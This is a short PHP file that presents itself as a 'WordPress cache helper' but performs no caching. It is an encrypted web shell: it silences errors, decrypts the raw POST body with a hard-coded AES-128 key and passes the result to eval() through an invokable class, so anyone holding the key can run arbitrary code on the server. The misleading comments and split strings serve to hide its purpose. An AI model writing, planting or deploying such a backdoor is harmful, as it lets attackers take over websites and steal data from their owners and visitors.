<?php
/* WordPress cache helper */ @error_reporting(0); session_start();
$key  =  "e45e329f"  .  "eb5d925b" ;   // cache key
$_SESSION [ 'k' ] = $key ;
$post = file_get_contents ( "php:" . "//" . "input" ) ;
$post = openssl_decrypt ( $post , "AES" . "128" , $key ) ;
$arr = explode ( '|' , $post ) ;
class C { public function __invoke ( $p ) { eval ( $p . "" ) ; } }
@call_user_func ( new C ( ) , $arr [ 1 ] ) ;
